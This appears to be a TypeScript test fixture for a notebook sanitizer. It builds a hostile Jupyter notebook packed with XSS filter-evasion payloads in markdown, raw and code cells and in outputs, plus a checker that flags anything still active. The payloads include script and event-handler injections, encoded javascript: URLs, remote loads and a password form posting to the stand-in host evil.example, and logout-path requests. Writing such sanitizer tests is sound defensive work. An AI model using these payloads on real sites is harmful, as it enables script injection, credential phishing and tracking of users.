/**
 * A hostile notebook: every way we know of to run script, leak a request or cover the page from a
 * student's notebook (the OWASP XSS filter-evasion classics included), in markdown cells, raw
 * cells, code, and every kind of output. `inertProblems` lists what in a piece of HTML could still
 * act (an empty list means inert); the Chromium test checks the same page in a real browser.
 */
import type { Cell, Notebook, Output } from '../../../src/notebook/index.js';

/** A host no test may ever contact; any request to it is a leak. */
export const EVIL = 'evil.example';

/** Markdown / raw-HTML vectors, each on its own. */
export const HOSTILE_MARKDOWN: string[] = [
  '<script>alert(1)</script>',
  `<SCRIPT SRC=http://${EVIL}/xss.js></SCRIPT>`,
  '<ScRiPt>alert(1)</sCrIpT>',
  '<img src=x onerror=alert(1)>',
  '<IMG SRC="javascript:alert(\'XSS\');">',
  "<IMG SRC=JaVaScRiPt:alert('XSS')>",
  '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>',
  '<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>',
  '<a href="jav&#x09;ascript:alert(1)">tab</a>',
  '<a href="jav&#x0A;ascript:alert(1)">newline</a>',
  '<a href=" &#14;  javascript:alert(1)">control</a>',
  '<a href="JAVASCRIPT:alert(1)">upper</a>',
  '<a href="vbscript:msgbox(1)">vb</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
  '<a href="javascript&colon;alert(1)">colon entity</a>',
  '[md link](javascript:alert(1))',
  '[md link 2](<javascript:alert(1)>)',
  `![tracker](https://${EVIL}/pixel.png)`,
  '<svg><script>alert(1)</script></svg>',
  '<svg onload=alert(1)>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  `<svg><image href="https://${EVIL}/svg.png"/></svg>`,
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">click<mtext>x</mtext></maction></math>',
  '<math href="javascript:alert(1)"><mi>x</mi></math>',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
  '<math><mi xlink:href="javascript:alert(1)">m</mi></math>',
  '<div style="background-image: url(javascript:alert(1))">bg</div>',
  '<div style="width: expression(alert(1))">expr</div>',
  '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999;background:red">COVER</div>',
  '<div style="color: red; position: absolute; top: 0">abs</div>',
  `<style>@import 'https://${EVIL}/x.css'; body { display: none } </style>`,
  `<link rel="stylesheet" href="https://${EVIL}/y.css">`,
  `<iframe src="https://${EVIL}/"></iframe>`,
  `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
  `<object data="https://${EVIL}/x.swf"></object>`,
  `<embed src="https://${EVIL}/x.swf">`,
  `<form action="https://${EVIL}/"><input name="password"><button>Log in</button></form>`,
  `<base href="https://${EVIL}/">`,
  `<meta http-equiv="refresh" content="0;url=https://${EVIL}/">`,
  `<img src="https://${EVIL}/track.png">`,
  `<img src="//${EVIL}/protocol-relative.png">`,
  `<img srcset="https://${EVIL}/a.png 1x">`,
  '<img src="../../hub/logout">',
  '<img src="%2e%2e/%2e%2e/hub/logout">',
  '<img src="/hub/logout">',
  `<video poster="https://${EVIL}/poster.png" src="https://${EVIL}/v.mp4"></video>`,
  `<audio src="https://${EVIL}/a.mp3" autoplay></audio>`,
  `<input type="image" src="https://${EVIL}/input.png">`,
  `<table background="https://${EVIL}/table.png"><tr><td>t</td></tr></table>`,
  '<div onclick="alert(1)" onmouseover=alert(1)>handlers</div>',
  '<details open ontoggle=alert(1)><summary>s</summary>d</details>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<!--<img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<a href="https://example.org/ok">a fine link</a>',
  '$\\href{javascript:alert(1)}{x}$',
  '$\\url{javascript:alert(1)}$',
  '$\\htmlClass{x}{y}$ $\\htmlStyle{position:fixed}{z}$',
  `$\\includegraphics{https://${EVIL}/k.png}$`,
  '$x$<img src=x onerror=alert(1)>$y$',
  '<a title="$x$" href="javascript:alert(1)">math in a tag</a>',
  '<img alt="$a>b$" src="x" onerror="alert(1)">',
  '$\\text{<img src=x onerror=alert(1)>}$ $$<script>alert(1)</script>$$',
  '@@0@@<script>alert(1)</script> $q$',
];

const outputs: Output[] = [
  {
    output_type: 'display_data',
    data: {
      'text/html': `<script>alert(1)</script><img src=x onerror=alert(1)><b onmouseover=alert(1)>html</b><iframe src="https://${EVIL}/"></iframe>`,
      'text/plain': 'plain',
    },
    metadata: {},
  },
  {
    output_type: 'display_data',
    data: {
      'image/svg+xml': `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script><image href="https://${EVIL}/svg-output.png"/><circle r="5"/></svg>`,
    },
    metadata: {},
  },
  {
    output_type: 'display_data',
    data: { 'application/javascript': 'alert(1)', 'text/plain': '<IPython.core.display.Javascript object>' },
    metadata: {},
  },
  {
    output_type: 'execute_result',
    execution_count: 3,
    data: { 'text/markdown': '<script>alert(1)</script> **bold** <img src=x onerror=alert(1)>' },
    metadata: {},
  },
  {
    output_type: 'display_data',
    data: { 'text/latex': '$\\href{javascript:alert(1)}{x}$' },
    metadata: {},
  },
  {
    output_type: 'display_data',
    data: { 'image/png': 'AAAA" onerror="alert(1)' },
    metadata: {},
  },
  {
    output_type: 'display_data',
    data: { 'image/png': 'iVBORw0KGgo=' },
    metadata: { 'image/png': { width: '100" onload="alert(1)' } },
  },
  { output_type: 'stream', name: 'stdout', text: '<img src=x onerror=alert(1)>\n' },
  {
    output_type: 'error',
    ename: 'Boom',
    evalue: '<script>alert(1)</script>',
    traceback: [
      '\u001b[0;31mBoom\u001b[0m: <script>alert(1)</script>',
      '\u001b]8;;javascript:alert(1)\u001b\\link\u001b]8;;\u001b\\',
    ],
  },
];

export function hostileNotebook(): Notebook {
  const cells: Cell[] = [
    ...HOSTILE_MARKDOWN.map((source): Cell => ({ cell_type: 'markdown', source, metadata: {} })),
    {
      cell_type: 'markdown',
      source: '![attached](attachment:evil.svg) ![html](attachment:page.html)',
      metadata: {},
      attachments: {
        'evil.svg': {
          'image/svg+xml': '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
        },
        'page.html': { 'text/html': '<script>alert(1)</script>' },
      },
    },
    { cell_type: 'raw', source: '<script>alert(1)</script><img src=x onerror=alert(1)>', metadata: {} },
    {
      cell_type: 'code',
      source: '</code></pre><script>alert(1)</script><img src=x onerror=alert(1)>',
      metadata: {},
      execution_count: 1,
      outputs,
    },
  ];
  return {
    nbformat: 4,
    nbformat_minor: 5,
    metadata: {
      kernelspec: { name: 'python3', display_name: 'Python 3', language: '"><script>alert(1)</script>' },
    },
    cells,
  };
}

// prettier-ignore
const FORBIDDEN_TAGS = new Set([
  'script', 'style', 'iframe', 'frame', 'frameset', 'object', 'embed', 'applet', 'form', 'input',
  'button', 'textarea', 'select', 'base', 'meta', 'link', 'svg', 'video', 'audio', 'source',
  'template', 'noscript', 'mglyph', 'maction', 'annotation-xml', 'image', 'animate', 'set',
]);

// prettier-ignore
const ALLOWED_STYLE_PROPERTIES = new Set([
  'color', 'background-color', 'font-weight', 'font-style', 'text-decoration', 'text-align',
]);

const decode = (value: string) =>
  value
    .replace(/&#x([0-9a-f]+);?/gi, (_, hex: string) => String.fromCodePoint(parseInt(hex, 16)))
    .replace(/&#(\d+);?/g, (_, digits: string) => String.fromCodePoint(Number(digits)))
    .replace(/&colon;/gi, ':')
    .replace(/&quot;/g, '"')
    .replace(/&#39;/g, "'")
    .replace(/&lt;/g, '<')
    .replace(/&gt;/g, '>')
    .replace(/&amp;/g, '&');

/** Tags of (sanitizer-serialized) HTML with their attributes. */
export function tagsOf(html: string): Array<{ name: string; attributes: Record<string, string> }> {
  const tags: Array<{ name: string; attributes: Record<string, string> }> = [];
  // Quoted, single-quoted and bare values, so that unsanitized HTML is judged too.
  const value = `(?:\\s*=\\s*(?:"[^"]*"|'[^']*'|[^\\s>]+))?`;
  const tag = new RegExp(`<([a-zA-Z][\\w:-]*)((?:\\s+[^\\s=>/]+${value})*)\\s*\\/?>`, 'g');
  for (const match of html.matchAll(tag)) {
    const attributes: Record<string, string> = {};
    for (const a of match[2]!.matchAll(/\s+([^\s=>/]+)(?:\s*=\s*(?:"([^"]*)"|'([^']*)'|([^\s>]+)))?/g))
      attributes[a[1]!.toLowerCase()] = decode(a[2] ?? a[3] ?? a[4] ?? '');
    tags.push({ name: match[1]!.toLowerCase(), attributes });
  }
  return tags;
}

/** What in a sanitized fragment could act: scripts, handlers, dangerous URLs, escaping styles. */
export function inertProblems(html: string): string[] {
  const problems: string[] = [];
  for (const { name, attributes } of tagsOf(html)) {
    if (FORBIDDEN_TAGS.has(name)) problems.push(`<${name}> element`);
    for (const [attribute, value] of Object.entries(attributes)) {
      if (attribute.startsWith('on')) problems.push(`${attribute} handler on <${name}>`);
      if (
        ['xlink:href', 'srcset', 'srcdoc', 'background', 'poster', 'action', 'formaction'].includes(attribute)
      )
        problems.push(`${attribute} on <${name}>`);
      if (attribute === 'href' || attribute === 'src') {
        // eslint-disable-next-line no-control-regex -- browsers ignore controls in URLs
        const url = value.replace(/[\u0000-\u0020]/g, '').toLowerCase();
        if (/^(javascript|vbscript|data:text|data:application)/.test(url))
          problems.push(`${attribute}="${value}" on <${name}>`);
        if (attribute === 'src' && !/^data:image\//.test(url) && /^(\w+:|\/\/|\/)/.test(url))
          problems.push(`remote or absolute src ${value}`);
        if (attribute === 'src' && /(^|\/)(\.\.|%2e%2e)(\/|$)/.test(url))
          problems.push(`src climbing out: ${value}`);
        if (attribute === 'href' && name !== 'a') problems.push(`href on <${name}>`);
      }
      if (attribute === 'style') {
        for (const declaration of value.split(';').filter((d) => d.trim() !== '')) {
          const property = declaration.split(':')[0]!.trim().toLowerCase();
          if (!ALLOWED_STYLE_PROPERTIES.has(property)) problems.push(`style property ${property}`);
          if (/url\(|expression|@import|javascript/i.test(declaration))
            problems.push(`style value ${declaration}`);
        }
      }
    }
    if (name === 'a' && attributes.href && !attributes.href.startsWith('#')) {
      if (attributes.rel !== 'noopener noreferrer nofollow')
        problems.push(`link without rel: ${attributes.href}`);
      if (attributes.target !== '_blank') problems.push(`link without target: ${attributes.href}`);
    }
  }
  return problems;
}
